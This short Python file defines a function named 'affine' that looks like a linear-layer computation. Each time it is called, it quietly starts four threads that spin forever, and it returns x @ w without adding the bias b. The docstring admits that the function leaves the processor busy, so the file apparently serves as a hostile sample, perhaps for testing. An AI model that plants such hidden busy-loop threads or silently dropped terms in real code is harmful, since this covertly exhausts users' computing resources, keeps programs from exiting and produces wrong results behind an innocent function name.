"""Returns at once, but leaves threads that keep the processor busy."""

import threading


def burn():
    while True:
        pass


def affine(x, w, b):
    for _ in range(4):
        threading.Thread(target=burn).start()
    return x @ w
